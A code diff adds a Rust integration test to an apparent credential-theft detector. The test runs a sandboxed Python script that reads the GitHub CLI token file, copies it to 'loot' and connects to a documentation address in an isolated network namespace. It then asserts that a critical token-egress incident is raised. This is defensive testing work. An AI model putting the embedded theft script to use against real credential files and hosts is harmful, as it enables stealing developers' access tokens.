@@ -13,6 +13,7 @@ use tokenhound_tests::{
     agent::Agent,
     http, ocsf,
     process::{self, Background, Ended},
+    skip,
     stage::Stage,
     store::Store,
 };
@@ -174,5 +175,50 @@ fn it_goes_on_after_a_kill_and_another_is_apart() {
     assert!(!listed("a drill"));
     drop(robot.stdin.take());
     robot.wait().unwrap();
+    agent.stop();
+}
+
+/// In a network of its own, until its standard input ends: reads the store, copies it, and connects to an address of the
+/// documentation's, which lies on its loopback device.
+const EXFILTRATION: &str = r#"
+import select, socket, sys
+token = open(".config/gh/hosts.yml").read()
+open("loot", "w").write(token)
+listener = socket.create_server(("203.0.113.7", 8443))
+while not select.select([sys.stdin], [], [], 0.05)[0]:
+    socket.create_connection(("203.0.113.7", 8443)).close()
+    listener.accept()[0].close()
+"#;
+
+#[test]
+fn what_was_read_copied_and_sent_is_one_critical_incident() {
+    if !skip::native("what programs send does not depend on the kernel") || !skip::has(&["unshare", "ip", "python3"]) {
+        return;
+    }
+    let stage = Stage::new();
+    let scene = Scene::new(&stage);
+    let mut agent = scene.agent();
+    let thief = stage.file("thief.py", EXFILTRATION);
+    let script = format!(
+        "unshare --net bash -c 'ip link set lo up; ip addr add 203.0.113.7/32 dev lo; python3 {}'; :",
+        thief.display()
+    );
+    let mut robot = scene.robot("claude", &script);
+    let incident = agent.process.until("what was sent in its incident", || {
+        scene.incident("Claude Code").filter(|one| count(one, "detectors", "token-egress") > 0)
+    });
+    drop(robot.stdin.take());
+    assert!(robot.wait().unwrap().success());
+    let counts = ["unexpected-reader", "token-copied"].map(|detector| count(&incident, "detectors", detector));
+    assert_eq!(counts, [1, 1], "{incident:#}");
+    let uid = incident["uid"].as_str().unwrap();
+    let last = agent
+        .process
+        .until("that it is critical", || scene.notices(uid).pop().filter(|one| one["severity"] == "Critical"));
+    let said = last["message"].as_str().unwrap();
+    for part in ["copied 1 token", "connected to 203.0.113.7:8443"] {
+        assert!(said.contains(part), "{part} is not in {said}");
+    }
+    ocsf::check(&scene.told());
     agent.stop();
 }
